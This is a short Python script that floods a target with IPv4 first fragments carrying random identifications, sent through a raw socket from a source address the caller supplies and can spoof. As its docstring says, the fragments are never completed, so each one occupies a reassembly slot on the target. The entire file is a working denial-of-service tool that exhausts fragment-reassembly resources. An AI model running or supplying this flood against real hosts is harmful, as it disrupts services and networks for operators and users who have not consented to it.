#!/usr/bin/env python3
"""A flood of IPv4 fragments with random IDs: SRC DST PROTO COUNT.

Sends COUNT first fragments (offset 0, MF set, 1,000 bytes of payload)
from SRC to DST with IP protocol PROTO and random identifications, through
a raw socket (IP_HDRINCL): none of them is ever completed, so each one takes
a reassembly slot until it is evicted or times out. Prints "sent COUNT".
"""
import os
import random
import socket
import struct
import sys


def checksum(b):
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


src, dst, proto, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
payload = os.urandom(1000)
for _ in range(count):
    ident = random.getrandbits(16)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x2000, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    h = h[:10] + struct.pack("!H", checksum(h)) + h[12:]
    s.sendto(h + payload, (dst, 0))
print(f"sent {count}", flush=True)
